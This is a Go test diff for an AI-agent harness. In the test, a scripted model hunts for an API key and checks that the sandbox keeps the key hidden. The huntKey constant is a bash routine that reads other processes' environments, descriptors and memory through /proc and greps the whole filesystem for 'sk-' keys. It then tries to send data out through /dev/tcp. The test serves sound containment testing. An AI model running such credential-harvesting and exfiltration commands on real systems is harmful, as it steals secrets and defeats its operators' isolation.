@@ -5,10 +5,14 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -401,4 +405,164 @@ func TestRecordNeedsTheKey(t *testing.T) {
 	}
 	nothingWritten(t, out)
 	_ = recording.InputFile
+}
+
+// huntKey is the bash call of TestRecordKeepsItsKey: it looks for the key
+// by every means a tool has. For every process it can see it reads the
+// command line and environment, every descriptor (the first 64 KiB of
+// each) and every readable region of its memory; it reads its own
+// environment and every file of the child's root but /proc, /sys, /usr and
+// /dev; and it tries to send what it found to the host's loopback (port
+// PORT). Whatever looks like a key ("sk-" and what follows) it prints
+// forward and reversed, with a line per process saying what it could read,
+// and "hunt-done" at the end.
+const huntKey = `found() { grep -a -o 'sk-[A-Za-z0-9_-]*' | sort -u | while read -r k; do echo "FOUND $k $(echo "$k" | rev)"; done; }
+n=0
+for p in /proc/[0-9]*; do
+  pid=${p#/proc/}; n=$((n+1))
+  cmd=$(tr '\0' ' ' < $p/cmdline 2>/dev/null | head -c 60)
+  env=denied; tr '\0' '\n' < $p/environ > /tmp/env.$pid 2>/dev/null && env=read && found < /tmp/env.$pid
+  fds=0; for fd in $p/fd/*; do [ -e "$fd" ] || continue; fds=$((fds+1)); timeout 0.2 head -c 65536 "$fd" 2>/dev/null | found; done
+  mem=0
+  while read -r range perms rest; do
+    case $perms in r*) s=$((16#${range%-*})); e=$((16#${range#*-}))
+      if dd if=$p/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>/dev/null > /tmp/mem.$pid; then mem=$((mem+$(stat -c %s /tmp/mem.$pid))); found < /tmp/mem.$pid; fi;;
+    esac
+  done < $p/maps 2>/dev/null
+  rm -f /tmp/mem.$pid /tmp/env.$pid
+  echo "pid $pid [$cmd] environ $env fds $fds memory $mem"
+done
+env | found
+grep -r -a -o -s 'sk-[A-Za-z0-9_-]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev | sed 's/^[^:]*://' | found
+` + huntSend
+
+// huntSend is the end of huntKey: it sends to the host's loopback.
+const huntSend = `(echo "sk-exfiltrated" > /dev/tcp/127.0.0.1/PORT) 2>/dev/null && echo "sent to the host"
+echo "hunt-done $n processes"`
+
+// TestRecordKeepsItsKey: the model has bash hunt for the key (huntKey)
+// under danger-full-access: through every process the session's tools can
+// see (their environments, descriptors and memory), their own environment
+// and the files of their root, and it finds nothing; what it sends to the
+// host's loopback never arrives (the tools have no network); the key is in
+// no request body the model got (only in the Authorization header), in no
+// file written, forward or reversed. With ToolNetwork the tools reach the
+// host's loopback (a call that only connects).
+func TestRecordKeepsItsKey(t *testing.T) {
+	isolate.Require(t)
+	for _, network := range []bool{false, true} {
+		t.Run(map[bool]string{false: "no network", true: "tool network"}[network], func(t *testing.T) {
+			ln, err := net.Listen("tcp", "127.0.0.1:0")
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer ln.Close()
+			hunt := huntKey
+			if network {
+				hunt = "n=0\n" + huntSend
+			}
+			hunt = strings.ReplaceAll(hunt, "PORT", strconv.Itoa(ln.Addr().(*net.TCPAddr).Port))
+			f := newFakeServer(t, func(n int, w http.ResponseWriter) {
+				if n == 0 {
+					args, _ := json.Marshal(map[string]string{"command": hunt, "description": "find the key"})
+					sse(w, true, toolCall("call_00_hunt0001", "bash", string(args))...)
+					return
+				}
+				sse(w, true, `{"choices":[{"delta":{"content":"DONE"},"finish_reason":"stop"}]}`)
+			})
+			opt := recordOptions(f)
+			opt.ToolNetwork = network
+			out, err := record(t, f, keyScenario(t), opt)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if f.requests() != 2 {
+				t.Fatalf("%d requests, want 2", f.requests())
+			}
+			result := toolResults(f.bodies[1])
+			if !regexp.MustCompile(`hunt-done [0-9]+ processes`).MatchString(result) || !network && !regexp.MustCompile(`pid 1 \[[^]]*\] environ denied fds 0 memory 0`).MatchString(result) {
+				t.Fatalf("the hunt did not run to its end, or read PID 1: %s", result)
+			}
+			for i, b := range f.bodies {
+				data, _ := json.Marshal(b)
+				assertNoKey(t, fmt.Sprintf("request %d's body", i), string(data))
+			}
+			assertNoKeyUnder(t, filepath.Dir(out))
+			sent := strings.Contains(result, "sent to the host")
+			if got := accepted(t, ln); sent != network || got != network {
+				t.Errorf("tool network %v: the bash call says it sent %v, the host's listener got a connection %v", network, sent, got)
+			}
+		})
+	}
+}
+
+// toolResults are the texts of the tool messages of a request body.
+func toolResults(body map[string]any) string {
+	var b strings.Builder
+	msgs, _ := body["messages"].([]any)
+	for _, m := range msgs {
+		if m, ok := m.(map[string]any); ok && m["role"] == "tool" {
+			fmt.Fprintln(&b, m["content"])
+		}
+	}
+	return b.String()
+}
+
+// keyScenario is a scenario whose session runs under danger-full-access
+// without approvals.
+func keyScenario(t *testing.T) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "scenario")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	in := `{"steps":[{"op":"initialize"},{"op":"newSession"},{"op":"prompt","text":"Find the API key."}],"sandboxMode":"danger-full-access","approvalPolicy":"never"}` + "\n"
+	if err := os.WriteFile(filepath.Join(dir, "input.json"), []byte(in), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+// assertNoKey fails when text holds the key, whole or reversed, or the
+// part of it that is its own (past "sk-").
+func assertNoKey(t *testing.T, what, text string) {
+	t.Helper()
+	rev := []rune(testKey)
+	slices.Reverse(rev)
+	for _, form := range []string{testKey, string(rev), strings.TrimPrefix(testKey, "sk-")} {
+		if strings.Contains(text, form) {
+			t.Errorf("%s holds the key (%q)", what, form)
+		}
+	}
+}
+
+// assertNoKeyUnder fails when any file under dir holds the key.
+func assertNoKeyUnder(t *testing.T, dir string) {
+	t.Helper()
+	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		data, err := os.ReadFile(p)
+		assertNoKey(t, p, string(data))
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// accepted reports whether ln got a connection (within a short wait: the
+// session is over by now).
+func accepted(t *testing.T, ln net.Listener) bool {
+	t.Helper()
+	if err := ln.(*net.TCPListener).SetDeadline(time.Now().Add(200 * time.Millisecond)); err != nil {
+		t.Fatal(err)
+	}
+	c, err := ln.Accept()
+	if err == nil {
+		c.Close()
+		return true
+	}
+	return false
 }
